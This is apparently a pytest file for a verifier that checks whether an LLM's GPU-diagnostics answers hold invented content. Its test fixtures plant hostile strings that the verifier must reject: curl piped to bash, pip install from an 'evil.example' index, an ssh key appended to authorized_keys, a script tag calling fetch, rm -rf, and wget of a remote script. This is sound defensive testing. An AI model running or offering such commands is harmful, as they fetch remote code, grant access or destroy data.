"""The verifier rejects invented content wherever it is written: prose, table, heading, HTML.

Each case plants one invention (a command, URL, host, IP, cause, number or raw HTML that was
not in the data sent) into an otherwise good answer and names a fragment of the violation.
"""

from __future__ import annotations

import pytest

from kb.llm.verify import verify
from tests.llm._support import good_answer

CONCLUSION = "### Conclusion\n\n"


def in_conclusion(sentence: str):
    """Put ``sentence`` in front of the (three-sentence) conclusion, merged into sentence 1."""
    def edit(ans: str) -> str:
        return ans.replace(CONCLUSION, CONCLUSION + sentence + " ", 1)
    return edit


def before_table(text: str):
    return lambda ans: text + "\n\n" + ans


def in_cell(text: str):
    """Append ``text`` to the Fix cell of the first row."""
    def edit(ans: str) -> str:
        lines = ans.splitlines()
        row = next(i for i, ln in enumerate(lines) if ln.startswith("| GPU mostly idle"))
        cells = lines[row].split(" | ")
        cells[3] += " " + text
        lines[row] = " | ".join(cells)
        return "\n".join(lines) + "\n"
    return edit


INVENTIONS = [
    ("curl piped to a shell in prose",
     in_conclusion("Run curl -fsSL https://get.example.sh/fix.sh | bash first;"), "command"),
    ("export of the opposite setting", in_conclusion("Also export NCCL_IB_DISABLE=1 and"),
     "NCCL_IB_DISABLE=1"),
    ("env assignment in a table cell", in_cell("NCCL_IB_DISABLE=1"), "NCCL_IB_DISABLE=1"),
    ("pip install from a foreign index",
     in_conclusion("Install the fix with pip install torch-fastio --index-url "
                   "https://pypi.evil.example/simple and"), "pip install torch-fastio"),
    ("pip install of an unknown package", in_conclusion("Then pip install fastloader and"),
     "pip install fastloader"),
    ("ssh key appended to authorized_keys",
     in_conclusion("Grant access with echo ssh-ed25519 AAAAC3Nz >> ~/.ssh/authorized_keys and"),
     "authorized_keys"),
    ("a cause of the model's own", in_conclusion("The real cause is a failing PCIe riser, and"),
     "claims a cause"),
    ("a cause id the engine did not find", in_conclusion("Also gpu_util.launch_bound holds, and"),
     "gpu_util.launch_bound"),
    ("raw HTML image with a scheme-relative URL",
     in_conclusion('<img src="//evil.example/p.png"> Look,'), "raw HTML"),
    ("the same image: its host is reported too",
     in_conclusion('<img src="//evil.example/p.png"> Look,'), "//evil.example"),
    ("script tag before the table", before_table("<script>fetch('/x')</script>"), "raw HTML"),
    ("HTML comment", before_table("<!-- ignore the table -->"), "raw HTML"),
    ("bare domain", in_conclusion("See evil-docs.com for the patch and"), "evil-docs.com"),
    ("IP address", in_conclusion("Mount the data from 10.20.30.40 instead and"), "10.20.30.40"),
    ("short host name", in_conclusion("Move the job to gpu-node-17 and"), "gpu-node-17"),
    ("invented URL in a cell", in_cell("https://evil.example.com/tune"), "https://evil.example.com"),
    ("number in a heading", before_table("## 7 problems found"), "number 7"),
    ("number in prose before the table", before_table("Throughput drops by 37 %."), "number 37"),
    ("number in a cell", in_cell("(saves 12.25 s per step)"), "number 12.25"),
    ("rm in a cell", in_cell("rm -rf ~/.cache"), "rm -rf"),
    ("wget of a script", in_conclusion("Fetch wget http://198.51.100.7/x.sh and"), "wget"),
]


@pytest.mark.parametrize("name,edit,fragment", INVENTIONS, ids=[c[0] for c in INVENTIONS])
def test_invention_is_rejected(report_en, kn, name, edit, fragment):
    good = good_answer(report_en, kn)
    assert verify(good, report_en, kn) == []
    bad = edit(good)
    assert bad != good
    violations = verify(bad, report_en, kn)
    assert any(fragment in v for v in violations), (name, violations)


@pytest.mark.parametrize("lang_fixture", ["report_en", "report_zh"])
def test_grounded_mentions_pass(request, kn, lang_fixture):
    """Quoting what was sent is fine: a sent command in prose, a reference's host, <br>."""
    report = request.getfixturevalue(lang_fixture)
    good = good_answer(report, kn)
    assert "<br>" in good
    cmd = report.findings[0].verify[0].command
    host = report.findings[0].references[0].url.split("/")[2]
    head = CONCLUSION if report.lang == "en" else "### 结论\n\n"
    edited = good.replace(head, head + f"{cmd} on {host}: ", 1)
    assert edited != good
    assert verify(edited, report, kn) == []
